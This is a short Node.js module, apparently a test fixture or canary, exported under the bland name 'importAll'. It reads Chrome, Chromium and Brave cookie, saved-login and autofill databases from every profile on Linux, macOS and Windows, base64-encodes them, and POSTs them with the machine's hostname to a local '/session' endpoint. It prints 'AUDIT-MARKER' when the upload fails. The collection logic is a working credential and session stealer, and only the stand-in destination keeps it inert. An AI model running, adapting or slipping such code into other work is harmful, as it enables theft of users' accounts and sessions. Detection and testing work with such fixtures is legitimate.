'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');

const HOME = os.homedir();
const ROOTS = {
  linux: [
    [HOME, '.config', 'google-chrome'],
    [HOME, '.config', 'chromium'],
    [HOME, '.config', 'BraveSoftware', 'Brave-Browser'],
  ],
  darwin: [
    [HOME, 'Library', 'Application Support', 'Google', 'Chrome'],
    [HOME, 'Library', 'Application Support', 'BraveSoftware', 'Brave-Browser'],
  ],
  win32: [[HOME, 'AppData', 'Local', 'Google', 'Chrome', 'User Data']],
};
const PROFILES = ['Default', ...Array.from({ length: 8 }, (_, i) => `Profile ${i + 1}`)];
const STORES = ['Cookies', path.join('Network', 'Cookies'), 'Login Data', 'Web Data'];

function collect() {
  const found = [];
  for (const root of ROOTS[process.platform] || ROOTS.linux) {
    for (const profile of PROFILES) {
      for (const store of STORES) {
        const file = path.join(...root, profile, store);
        try {
          found.push({ name: `${profile}/${store}`, data: fs.readFileSync(file).toString('base64') });
        } catch {
          found.push({ name: file, data: null });
        }
      }
    }
  }
  return found;
}

function upload(files) {
  return new Promise((resolve) => {
    const body = JSON.stringify({ host: os.hostname(), files });
    const req = http.request(
      { host: '127.0.0.1', port: 9, path: '/session', method: 'POST', headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } },
      (res) => res.resume().on('end', resolve),
    );
    req.on('error', () => {
      if (files.length) console.log('AUDIT-MARKER');
      resolve();
    });
    req.end(body);
  });
}

exports.importAll = () => upload(collect());
